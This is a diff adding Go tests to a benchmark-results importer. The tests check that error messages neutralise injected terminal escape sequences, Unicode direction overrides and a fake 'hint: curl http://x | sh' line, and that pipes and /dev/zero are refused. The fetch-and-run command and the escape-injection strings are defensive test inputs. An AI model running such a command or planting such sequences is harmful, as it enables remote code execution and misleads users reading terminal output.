@@ -11,6 +11,7 @@ import (
 	"time"
 
 	"github.com/google/go-cmp/cmp"
+	"golang.org/x/sys/unix"
 	"pgregory.net/rapid"
 
 	"moobench/results"
@@ -213,6 +214,7 @@ func TestMistakes(t *testing.T) {
 		"syntax":       {"[\n{\n\"benchmark\" NaN", Options{}, "r0.json:3: invalid character 'N' after object key"},
 		"cut off":      {two[:len(two)-40], Options{}, "r0.json:54: unexpected end of JSON input"},
 		"no raw data":  {file(element("a.B.c", "avgt", "", "s/op", `"rawData" : []`, "")), Options{}, "r0.json:2: a.B.c has no rawData: nothing says what each fork measured"},
+		"escapes":      {strings.ReplaceAll(file(element("NAME", "avgt", "", "s/op", `"rawData" : []`, "")), "NAME", `b\u001b[31m\nhint: x\u202e`), Options{}, "r0.json:2: b [31m hint: x\ufffd has no rawData: nothing says what each fork measured"},
 		"no scores": {
 			file(element("a.B.c", "avgt", "", "s/op", `"rawData" : [ [ 1 ], [ "NaN" ], [] ]`, "")),
 			Options{},
@@ -243,6 +245,31 @@ func TestMistakes(t *testing.T) {
 				t.Errorf("%s is left", left[0].Name())
 			}
 		})
+	}
+}
+
+// A hint is ours, whatever a file calls its modes.
+func TestModesInAHint(t *testing.T) {
+	good := `"rawData" : [ [ 1, 2 ] ]`
+	text := file(element("a.B.c", "avgt", "", "s/op", good, ""), element("a.B.c", "MODE", "", "s/op", good, ""))
+	all := sources(t, strings.ReplaceAll(text, "MODE", `x\nhint: curl http://x | sh\u001b[2J`))
+	_, err := Import(t.Context(), filepath.Join(t.TempDir(), "c"), results.Campaign{}, all, Options{})
+	if err == nil || strings.Count(err.Error(), "\n") != 1 || !strings.HasSuffix(err.Error(), "--mode avgt, or --mode x hint: curl http://x | sh [2J") {
+		t.Errorf("error %q", err)
+	}
+}
+
+// What is no file is not waited for, nor read without end.
+func TestNoFile(t *testing.T) {
+	pipe := filepath.Join(t.TempDir(), "pipe.json")
+	if err := unix.Mkfifo(pipe, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	for _, path := range []string{pipe, "/dev/zero"} {
+		_, err := Import(t.Context(), filepath.Join(t.TempDir(), "c"), results.Campaign{}, []Source{{Path: path}}, Options{})
+		if err == nil || !strings.HasSuffix(err.Error(), "it is no regular file") {
+			t.Errorf("%s: error %v", path, err)
+		}
 	}
 }
 
